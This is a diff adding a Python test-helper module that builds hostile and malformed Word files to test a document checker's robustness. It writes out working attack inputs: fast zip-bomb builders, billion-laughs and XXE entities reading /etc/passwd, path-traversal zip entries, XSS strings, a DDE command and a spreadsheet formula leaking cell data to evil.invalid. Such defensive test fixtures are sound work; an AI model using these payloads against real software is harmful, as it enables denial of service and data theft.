@@ -1,0 +1,516 @@
+"""Generators for hostile and broken input files (issue 6).
+
+Every file is built here, from nothing, by the tests that use it: no binary
+fixtures in the repository. Each generator returns bytes and stays small and
+fast — a "4 GB" zip bomb is a few MB written in well under a second,
+because its deflate stream is one compressed chunk repeated.
+
+The minimal .docx written here is a valid Word package (content types,
+relationships, a main document part) with whatever body the case needs;
+documents that must be checked by the real rules are built with
+tests.fixtures.docbuilder instead.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import os
+import random
+import struct
+import subprocess
+import sys
+import zipfile
+import zlib
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from xml.sax.saxutils import escape
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+OFFICE_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
+
+GiB = 1 << 30
+MiB = 1 << 20
+
+
+# --- a minimal Word package -----------------------------------------------------------------
+
+
+def content_types(main_part: str = "/word/document.xml", main_type: str = DOCX_MAIN, extra: str = "") -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        f'<Override PartName="{main_part}" ContentType="{main_type}"/>{extra}</Types>'
+    ).encode()
+
+
+def package_rels(target: str = "word/document.xml") -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{OFFICE_DOCUMENT}" Target="{target}"/></Relationships>'
+    ).encode()
+
+
+def document_xml(body: str | bytes, prolog: bytes = b"") -> bytes:
+    """A w:document around `body` (XML text); `prolog` goes between the declaration and the root."""
+    head = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + prolog
+    body_bytes = body.encode() if isinstance(body, str) else body
+    return head + f'<w:document xmlns:w="{W_NS}"><w:body>'.encode() + body_bytes + b"</w:body></w:document>"
+
+
+def paragraph(text: str) -> str:
+    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'
+
+
+def zip_parts(parts: Iterable[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED, level: int = 1) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression, compresslevel=level) as archive:
+        for name, data in parts:
+            info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
+            info.compress_type = compression
+            archive.writestr(info, data)
+    return buffer.getvalue()
+
+
+def docx(body: str | bytes = "", *, prolog: bytes = b"", main_type: str = DOCX_MAIN,
+         extra_parts: Sequence[tuple[str, bytes]] = (), document: bytes | None = None) -> bytes:
+    """A valid .docx with the given body (or a whole document part), plus any extra zip entries."""
+    parts = [
+        ("[Content_Types].xml", content_types(main_type=main_type)),
+        ("_rels/.rels", package_rels()),
+        ("word/document.xml", document if document is not None else document_xml(body, prolog)),
+        *extra_parts,
+    ]
+    return zip_parts(parts)
+
+
+def plain_docx(*texts: str) -> bytes:
+    return docx("".join(paragraph(t) for t in texts))
+
+
+# --- broken and disguised files -----------------------------------------------------------
+
+
+def random_bytes(size: int = 4096, seed: int = 6) -> bytes:
+    return random.Random(seed).randbytes(size)
+
+
+def truncated(data: bytes, keep: float = 0.6) -> bytes:
+    """The first part of a file, as a copy interrupted half-way leaves it."""
+    return data[: int(len(data) * keep)]
+
+
+def zip_without_document() -> bytes:
+    return zip_parts([("[Content_Types].xml", content_types()), ("_rels/.rels", package_rels()),
+                      ("word/styles.xml", b"<styles/>")])
+
+
+def plain_zip() -> bytes:
+    """A zip of ordinary files, not an Office document at all."""
+    return zip_parts([("anteckningar.txt", "Mötesanteckningar".encode()), ("bild.png", random_bytes(256))])
+
+
+def docm() -> bytes:
+    """A macro-enabled Word document (.docm) with its VBA project, renamed .docx."""
+    return docx(paragraph("Makrodokument"), main_type=DOCM_MAIN,
+                extra_parts=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + random_bytes(512))])
+
+
+def xlsx() -> bytes:
+    """A minimal Excel workbook, renamed .docx."""
+    workbook = b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
+    return zip_parts([
+        ("[Content_Types].xml", content_types("/xl/workbook.xml", XLSX_MAIN)),
+        ("_rels/.rels", package_rels("xl/workbook.xml")),
+        ("xl/workbook.xml", workbook),
+    ])
+
+
+def traversal_entry() -> bytes:
+    """A valid document with an extra entry whose name climbs out of any folder it were unpacked into."""
+    return docx(paragraph("Ett vanligt stycke"), extra_parts=[("../../evil.txt", b"pwned"), ("/tmp/evil-absolut.txt", b"x")])
+
+
+# --- OLE compound files: old .doc and password-protected documents ----------------------------
+
+_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+_END, _FREE, _FAT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
+
+
+def ole_file(stream_names: Sequence[str]) -> bytes:
+    """A minimal compound file (version 3, 512-byte sectors) holding empty streams with these names.
+
+    Enough for anything that lists the directory (which is all Målkoll
+    needs to tell an old .doc from an encrypted .docx); the streams are empty.
+    """
+    entries = [_dir_entry("Root Entry", 5, child=1 if stream_names else _FREE)]
+    for index, name in enumerate(stream_names, start=1):
+        right = index + 1 if index < len(stream_names) else _FREE
+        entries.append(_dir_entry(name, 2, right=right))
+    while len(entries) % 4:
+        entries.append(b"\x00" * 64 + struct.pack("<HBB3I", 0, 0, 0, _FREE, _FREE, _FREE) + b"\x00" * 48)
+    dir_sectors = len(entries) // 4
+    fat = [_FAT] + [sector + 1 if sector < dir_sectors else _END for sector in range(1, dir_sectors + 1)]
+    fat_sector = struct.pack(f"<{128}I", *(fat + [_FREE] * (128 - len(fat))))
+    header = (
+        _OLE_MAGIC + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
+        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
+        + struct.pack("<109I", 0, *([_FREE] * 108))
+    )
+    assert len(header) == 512
+    return header + fat_sector + b"".join(entries)
+
+
+def _dir_entry(name: str, kind: int, *, left: int = _FREE, right: int = _FREE, child: int = _FREE) -> bytes:
+    encoded = name.encode("utf-16-le") + b"\x00\x00"
+    return (
+        encoded.ljust(64, b"\x00")
+        + struct.pack("<HBB3I", len(encoded), kind, 1, left, right, child)
+        + b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16
+        + struct.pack("<IQ", _END, 0)
+    )
+
+
+def old_word_doc() -> bytes:
+    """A Word 97–2003 binary document (.doc) as far as its directory goes."""
+    return ole_file(["WordDocument", "1Table", "\x05SummaryInformation", "\x05DocumentSummaryInformation"])
+
+
+def encrypted_docx() -> bytes:
+    """A password-protected .docx: Office wraps the encrypted package in a compound file."""
+    return ole_file(["\x06DataSpaces", "EncryptionInfo", "EncryptedPackage"])
+
+
+# --- XML attacks -----------------------------------------------------------------------------
+
+
+def billion_laughs() -> bytes:
+    entities = '<!ENTITY lol "lol">' + "".join(
+        f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "&lol;") * 10}">' for i in range(1, 10)
+    )
+    return docx(paragraph("Inledning") + '<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>',
+                prolog=f"<!DOCTYPE w:document [{entities}]>".encode())
+
+
+def external_entity(target: str = "/etc/passwd") -> bytes:
+    return docx(paragraph("Inledning") + "<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>",
+                prolog=f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{target}">]>'.encode())
+
+
+def external_dtd(target: str = "/etc/passwd") -> bytes:
+    """A document type loaded from outside (the parser must not fetch it)."""
+    return docx(paragraph("Inledning"), prolog=f'<!DOCTYPE w:document SYSTEM "file://{target}">'.encode())
+
+
+def dtd_in_styles() -> bytes:
+    """The entity attack moved to a part read later (the styles), not the main document."""
+    styles = (b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+              b'<w:styles xmlns:w="' + W_NS.encode() + b'"><w:style w:styleId="A"><w:name w:val="&x;"/></w:style></w:styles>')
+    rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
+            b'Target="styles.xml"/></Relationships>')
+    body = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>Text</w:t></w:r></w:p>'
+    return docx(body, extra_parts=[("word/_rels/document.xml.rels", rels), ("word/styles.xml", styles)])
+
+
+def deep_nesting(levels: int = 300) -> bytes:
+    """Content controls nested deeper than any parser should follow."""
+    inner = paragraph("djupt")
+    return docx("<w:sdt><w:sdtContent>" * levels + inner + "</w:sdtContent></w:sdt>" * levels)
+
+
+# --- absurd sizes ----------------------------------------------------------------------------
+
+_WORDS = ("mål", "enheten", "resultat", "analys", "brukare", "trygghet", "arbetssätt", "uppföljning",
+          "personal", "kvalitet", "nämnden", "indikator", "aktivitet", "året", "ökad", "delaktighet")
+
+
+def many_paragraphs(count: int = 100_000) -> bytes:
+    """`count` short paragraphs, written as XML text directly (python-docx would take minutes)."""
+    body = "".join(f'<w:p><w:r><w:t>Stycke {i} om {_WORDS[i % len(_WORDS)]}.</w:t></w:r></w:p>' for i in range(count))
+    return docx(body)
+
+
+def long_text(chars: int, seed: int = 6) -> str:
+    """Plausible words (so the text compresses like prose, not like a bomb)."""
+    rng = random.Random(seed)
+    words = rng.choices(_WORDS, k=chars // 7 + 1)
+    return " ".join(words)[:chars]
+
+
+def long_paragraph(chars: int = 10 * MiB, *, runs: int = 1) -> bytes:
+    """One paragraph of `chars` characters, in one text node or split over `runs` runs."""
+    text = escape(long_text(chars))
+    step = -(-len(text) // runs)
+    pieces = []
+    start = 0
+    while start < len(text):
+        end = min(len(text), start + step)
+        while end < len(text) and text[end - 1] != " ":  # never cut an &amp; in half
+            end += 1
+        pieces.append(f'<w:r><w:t xml:space="preserve">{text[start:end]}</w:t></w:r>')
+        start = end
+    return docx("<w:p>" + "".join(pieces) + "</w:p>")
+
+
+def nested_tables(depth: int = 50) -> bytes:
+    """A table in a cell of a table … `depth` levels down, with text at every level."""
+    inner = paragraph("innerst")
+    for level in range(depth, 0, -1):
+        inner = f"<w:tbl><w:tr><w:tc>{paragraph(f'nivå {level}')}{inner}<w:p/></w:tc></w:tr></w:tbl>"
+    return docx(paragraph("Tabeller i tabeller") + inner)
+
+
+def many_entries(count: int) -> bytes:
+    return zip_parts([("[Content_Types].xml", content_types()), ("_rels/.rels", package_rels()),
+                      ("word/document.xml", document_xml(paragraph("x")))]
+                     + [(f"word/media/bild{i}.bin", b"") for i in range(count)], compression=zipfile.ZIP_STORED)
+
+
+# --- zip bombs, written without ever holding (or compressing) the big data -----------------------
+
+
+@dataclass
+class _RawEntry:
+    name: str
+    data: bytes  # as stored in the zip (compressed)
+    crc: int
+    size: int  # uncompressed
+    method: int = zipfile.ZIP_DEFLATED
+
+
+def _deflated(data: bytes) -> _RawEntry:
+    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
+    return _RawEntry("", compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data))
+
+
+def _repeated_deflate(chunk: bytes, count: int, head: bytes = b"", tail: bytes = b"") -> _RawEntry:
+    """head + chunk × count + tail, deflated, in time proportional to the output, not the input."""
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
+    piece = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
+    # After a full flush the compressor starts afresh, so every chunk compresses to the same bytes.
+    assert compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH) == piece
+    last = compressor.compress(tail) + compressor.flush()
+    crc = _crc_repeated(zlib.crc32(head), chunk, count)
+    crc = _crc32_combine(crc, zlib.crc32(tail), len(tail))
+    return _RawEntry("", first + piece * count + last, crc, len(head) + len(chunk) * count + len(tail))
+
+
+def _crc_repeated(crc: int, chunk: bytes, count: int) -> int:
+    """CRC-32 of (data so far) + chunk × count, by doubling instead of hashing GBs."""
+    block_crc, block_len = zlib.crc32(chunk), len(chunk)
+    while count:
+        if count & 1:
+            crc = _crc32_combine(crc, block_crc, block_len)
+        block_crc = _crc32_combine(block_crc, block_crc, block_len)
+        block_len *= 2
+        count >>= 1
+    return crc
+
+
+def _gf2_times(matrix: list[int], vector: int) -> int:
+    total, index = 0, 0
+    while vector:
+        if vector & 1:
+            total ^= matrix[index]
+        vector >>= 1
+        index += 1
+    return total
+
+
+def _gf2_square(matrix: list[int]) -> list[int]:
+    return [_gf2_times(matrix, row) for row in matrix]
+
+
+def _crc32_combine(crc1: int, crc2: int, len2: int) -> int:
+    """zlib's crc32_combine (the CRC of A+B from the CRCs of A and B), which Python does not expose."""
+    if len2 <= 0:
+        return crc1
+    odd = [0xEDB88320] + [1 << n for n in range(31)]
+    even = _gf2_square(odd)
+    odd = _gf2_square(even)
+    while True:
+        even = _gf2_square(odd)
+        if len2 & 1:
+            crc1 = _gf2_times(even, crc1)
+        len2 >>= 1
+        if not len2:
+            break
+        odd = _gf2_square(even)
+        if len2 & 1:
+            crc1 = _gf2_times(odd, crc1)
+        len2 >>= 1
+        if not len2:
+            break
+    return crc1 ^ crc2
+
+
+def _raw_zip(entries: Sequence[_RawEntry], *, directory: Sequence[int] | None = None) -> bytes:
+    """A zip (with ZIP64 records where sizes need them) from pre-compressed entries.
+
+    `directory` lists, by index, the entries the central directory names; one
+    entry named many times is the overlapping-files trick that makes a few KB
+    claim GBs.
+    """
+    out = io.BytesIO()
+    offsets: list[int] = []
+    for entry in entries:
+        offsets.append(out.tell())
+        name = entry.name.encode()
+        big = _needs_zip64(entry)
+        extra = struct.pack("<HHQQ", 1, 16, entry.size, len(entry.data)) if big else b""
+        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(entry.data), entry.size)
+        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45 if big else 20, 0, entry.method, 0, 0x5A21,
+                              entry.crc, sizes[0], sizes[1], len(name), len(extra)) + name + extra)
+        out.write(entry.data)
+    directory_start = out.tell()
+    named = range(len(entries)) if directory is None else directory
+    for index in named:
+        entry, name = entries[index], entries[index].name.encode()
+        big = _needs_zip64(entry)
+        extra = struct.pack("<HHQQQ", 1, 24, entry.size, len(entry.data), offsets[index]) if big else b""
+        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(entry.data), entry.size)
+        out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45 if big else 20, 0, entry.method, 0, 0x5A21,
+                              entry.crc, sizes[0], sizes[1], len(name), len(extra), 0, 0, 0, 0,
+                              0xFFFFFFFF if big else offsets[index]) + name + extra)
+    directory_end = out.tell()
+    count, size = len(named), directory_end - directory_start
+    out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, directory_start))
+    out.write(struct.pack("<IIQI", 0x07064B50, 0, directory_end, 1))
+    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
+                          min(size, 0xFFFFFFFF), min(directory_start, 0xFFFFFFFF), 0))
+    return out.getvalue()
+
+
+def _needs_zip64(entry: _RawEntry) -> bool:
+    return entry.size >= 0xFFFFFFFF or len(entry.data) >= 0xFFFFFFFF
+
+
+def _named(name: str, entry: _RawEntry) -> _RawEntry:
+    entry.name = name
+    return entry
+
+
+def zip_bomb(size: int = 4 * GiB) -> bytes:
+    """A .docx whose word/document.xml is `size` bytes of spaces inside a valid document (~size/1000 on disk)."""
+    head = document_xml(paragraph("Inledning"))
+    split = head.index(b"</w:body>")
+    document = _repeated_deflate(b" " * MiB, max(1, size // MiB), head[:split], head[split:])
+    return _raw_zip([_named("[Content_Types].xml", _deflated(content_types())),
+                     _named("_rels/.rels", _deflated(package_rels())),
+                     _named("word/document.xml", document)])
+
+
+def overlapping_bomb(copies: int = 200, each: int = 16 * MiB) -> bytes:
+    """A few tens of KB whose directory lists `copies` entries sharing one compressed blob (GBs in total)."""
+    entries = [
+        _named("[Content_Types].xml", _deflated(content_types())),
+        _named("_rels/.rels", _deflated(package_rels())),
+        _named("word/document.xml", _deflated(document_xml(paragraph("Inledning")))),
+        _named("word/media/bild.bin", _repeated_deflate(b"\x00" * MiB, each // MiB)),
+    ]
+    return _raw_zip(entries, directory=[0, 1, 2, *([3] * copies)])
+
+
+# --- content that attacks the outputs -----------------------------------------------------------
+
+SCRIPT = "<script>alert('xss')</script><img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://evil.invalid/?q="&A1,"Klicka här")'
+DDE = "+cmd|' /C calc'!A0"
+ESCAPES = "\x1b[2J\x1b[31mröd\x1b[0m\x1b]8;;http://evil.invalid\x07länk\x1b]8;;\x07"
+RTL = "avgift\u202egnp.exe\u202c"
+
+
+def word_lock_file(user: str = "Anna Andersson") -> bytes:
+    """What Word leaves beside an open document as "~$name.docx": 162 bytes naming who has it open."""
+    ascii_name = user.encode("ascii", "replace")[:53]
+    wide = user.encode("utf-16-le")[:108]
+    return (bytes([len(ascii_name)]) + ascii_name.ljust(53, b" ") + bytes([len(user)]) + b"\x00"
+            + wide.ljust(108, b"\x00"))[:162].ljust(162, b"\x00")
+
+
+def with_symbol(data: bytes, marker: str, char: str) -> bytes:
+    """A built .docx with `marker` in its text replaced by a w:sym glyph of code point `char` (hex).
+
+    This is how a control character (which XML text cannot hold) still reaches
+    the reader: Word stores symbol-font glyphs as code points in an attribute.
+    """
+    source = zipfile.ZipFile(io.BytesIO(data))
+    parts = []
+    for info in source.infolist():
+        blob = source.read(info)
+        if info.filename == "word/document.xml":
+            glyph = f'</w:t><w:sym w:font="Symbol" w:char="{char}"/><w:t xml:space="preserve">'
+            blob = blob.replace(marker.encode(), glyph.encode())
+        parts.append((info.filename, blob))
+    return zip_parts(parts)
+
+
+# --- running Målkoll and looking at what it left --------------------------------------------------
+
+REPO = Path(__file__).resolve().parents[1]
+
+
+def run_malkoll(*args: str, cwd: Path | None = None, env: dict[str, str] | None = None, timeout: float = 120,
+                memory_limit: int | None = None) -> subprocess.CompletedProcess[str]:
+    """`malkoll …` in a fresh process (as a coordinator runs it), optionally with an address-space limit."""
+    environment = {**os.environ, "PYTHONPATH": str(REPO), "PYTHONUNBUFFERED": "1", "MALKOLL_NO_PROGRESS": "1",
+                   "NO_COLOR": "1", **(env or {})}
+    environment.pop("MALKOLL_DEBUG", None)
+
+    def limit_memory() -> None:
+        import resource
+
+        resource.setrlimit(resource.RLIMIT_AS, (memory_limit, memory_limit))
+
+    return subprocess.run(
+        [sys.executable, "-m", "checker", *args], capture_output=True, text=True, encoding="utf-8", errors="replace",
+        cwd=cwd or REPO, env=environment, timeout=timeout, preexec_fn=limit_memory if memory_limit else None,
+        check=False,
+    )
+
+
+def snapshot(root: Path, *, skip: Sequence[Path] = ()) -> dict[str, str]:
+    """Every entry under `root` (links not followed) → its SHA-256, link target or "<mapp>"."""
+    skipped = [s.resolve() for s in skip]
+    found: dict[str, str] = {}
+    for folder, dirnames, filenames in os.walk(root):
+        here = Path(folder)
+        dirnames[:] = [d for d in dirnames if (here / d).resolve() not in skipped or (here / d).is_symlink()]
+        for name in [*dirnames, *filenames]:
+            path = here / name
+            key = str(path.relative_to(root))
+            if path.is_symlink():
+                found[key] = "-> " + os.readlink(path)
+            elif path.is_dir():
+                found[key] = "<mapp>"
+            else:
+                found[key] = file_hash(path)
+    return found
+
+
+def file_hash(path: Path) -> str:
+    try:
+        return hashlib.sha256(path.read_bytes()).hexdigest()
+    except OSError as error:
+        return f"<oläsbar: {error.errno}>"
+
+
+def output_texts(folder: Path) -> dict[str, str]:
+    """Every file under `folder` as text; zip files (.docx, .xlsx) as the text of all their XML parts."""
+    texts: dict[str, str] = {}
+    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
+        data = path.read_bytes()
+        if data.startswith(b"PK"):
+            with zipfile.ZipFile(io.BytesIO(data)) as archive:
+                data = b"\n".join(archive.read(name) for name in archive.namelist() if name.endswith((".xml", ".rels")))
+        texts[str(path.relative_to(folder))] = data.decode("utf-8", "replace")
+    return texts
